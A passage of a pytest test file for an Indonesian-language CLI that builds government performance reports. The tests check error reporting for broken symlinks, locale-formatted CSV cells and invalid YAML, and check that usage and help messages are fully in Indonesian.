                                                           capsys: pytest.CaptureFixture[str]) -> None:
    """A chapter that is a symbolic link to nothing is a new input: were it left out of the build record's stamps,
    the build after it replayed the last good one and said nothing of the chapter the author meant to add."""
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 0
    symlink(f"{R}/15-bab-tambahan.md", "/tidak/ada.md")(project)
    capsys.readouterr()
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 1
    _assert_clean_failure(capsys.readouterr().err, f"{R}/15-bab-tambahan.md", 1, "ke berkas yang tidak ada")


def test_every_cell_of_a_csv_column_in_display_format_is_said_in_one_run(project: Path,
                                                                          capsys: pytest.CaptureFixture[str]) -> None:
    """A column of numbers copied from a sheet shown in Indonesian: each cell so written is said at its line, not
    only the column's first (the author fixed line 2, ran again, met line 3, and so on)."""
    write(f"{R}/data/penduduk.csv", 'desa,laki,perempuan,luas\nSungai,"1.234,5",1.234,2\nBatu,"98,70%",2.345,3\n'
          'Baru,"Rp 1.250.000",3.456,"1 234"\n')(project)
    assert main(["check", "--situs", str(project)]) == 1
    err = capsys.readouterr().err
    for line, cell in [(2, "'1.234,5'"), (3, "'98,70%'"), (4, "'Rp 1.250.000'"), (2, "'1.234'"), (3, "'2.345'"),
                       (4, "'3.456'")]:
        assert f"{R}/data/penduduk.csv:{line}: galat: " in err and any(
            ln.startswith(f"{R}/data/penduduk.csv:{line}: galat: ") and cell in ln for ln in err.splitlines()), cell


def test_all_errors_reported_in_one_run(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Authors fix everything from one run: errors in different files are all listed."""
    replace(SITUS, "skala_predikat: permendagri-86-2017", "skala_predikat: permendagri-86-2017\nwarna: biru")(project)
    replace(BAB4, "urutan: 40", "urutan: 30")(project)
    replace(PK, "sasaran: [S1]", "sasaran: [S1, S9]")(project)
    replace(INDIKATOR, "polaritas: positif", "polaritas: naik")(project)
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 1
    err = capsys.readouterr().err
    assert f"{SITUS}:7: peringatan: kunci 'warna' tidak dikenal" in err
    assert f"{BAB4}:5: galat:" in err
    assert f"{PK}:3: galat:" in err
    assert f"{INDIKATOR}:5: galat:" in err
    assert "3 galat, 4 peringatan." in err  # with situs.yaml's sample pemda and url_dasar (isian-contoh), no licence


# ------------------------------------------------------------------------------------------------ check, usage


def test_broken_metadata_does_not_hide_data_errors(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """laporan.yaml broken: the report is skipped, yet its data files are still validated in the same run."""
    replace(LAPORAN, "periode: tahunan", "periode: tahun")(project)
    replace(INDIKATOR, "polaritas: positif", "polaritas: naik")(project)
    replace(BAB1, "bab: I\n", "")(project)
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 1
    err = capsys.readouterr().err
    assert f"{LAPORAN}:3: galat:" in err and f"{INDIKATOR}:5: galat:" in err and f"{BAB1}:3: galat:" in err


def test_check_writes_nothing(fresh_project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = sorted(p.relative_to(fresh_project).as_posix() for p in fresh_project.rglob("*"))
    assert main(["check", "--situs", str(fresh_project)]) == 0
    assert "tidak ada galat" in capsys.readouterr().out
    assert not (fresh_project / "build").exists()
    after = sorted(p.relative_to(fresh_project).as_posix() for p in fresh_project.rglob("*"))
    assert after == before


def test_check_reports_errors_with_exit_1(fresh_project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    replace(LAPORAN, "periode: tahunan", "periode: tahun")(fresh_project)
    assert main(["check", "--situs", str(fresh_project)]) == 1
    err = capsys.readouterr().err
    assert f"{LAPORAN}:3: galat:" in err
    # check writes nothing in any case: it said "Tidak ada berkas yang ditulis; hasil build sebelumnya tetap utuh"
    assert err.endswith("Pemeriksaan selesai: ada galat; perbaiki baris yang disebut, lalu jalankan lagi.\n")
    assert not (fresh_project / "build").exists()


@pytest.mark.parametrize("argv", [[], ["bangun"], ["new"], ["build", "--tidak-ada"], ["pdf"], ["ekspor", "x"],
                                  ["new", "x", "--tahun", "dua"], ["build", "-o"], ["new", "x", "--periode", "tw5"]],
                         ids=lambda a: " ".join(a) or "kosong")
def test_usage_errors_exit_2(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    """argparse's own messages are English; every line an author sees of a usage error is Indonesian."""
    with pytest.raises(SystemExit) as exc:
        main(argv)
    assert exc.value.code == 2
    err = capsys.readouterr().err
    assert "galat penggunaan" in err
    assert "Traceback" not in err
    assert err.startswith("cara pakai: lkjip")
    message = err.split("galat penggunaan: ", 1)[1]
    assert not _ENGLISH.search(message.replace("--output/-o", "")) and "choose" not in message, message


@pytest.mark.parametrize("argv", [["--help"], ["build", "--help"], ["impor-anggaran", "-h"]], ids=" ".join)
def test_help_frame_is_indonesian(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exc:
        main(argv)
    assert exc.value.code == 0
    out = capsys.readouterr().out
    assert out.startswith("cara pakai: lkjip") and "tampilkan bantuan ini lalu keluar" in out
    for english in ("usage:", "positional arguments", "options:", "show this help", "show program's"):
        assert english not in out


def test_new_with_bad_slug_is_usage_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["new", "Laporan Saya"]) == 2
    assert "galat penggunaan" in capsys.readouterr().err
    assert not (tmp_path / "content").exists()


def test_usage_error_in_real_process(tmp_path: Path) -> None:
    proc = _run(tmp_path, "bangun")
    assert proc.returncode == 2
    assert "galat penggunaan" in proc.stderr and "Traceback" not in proc.stderr
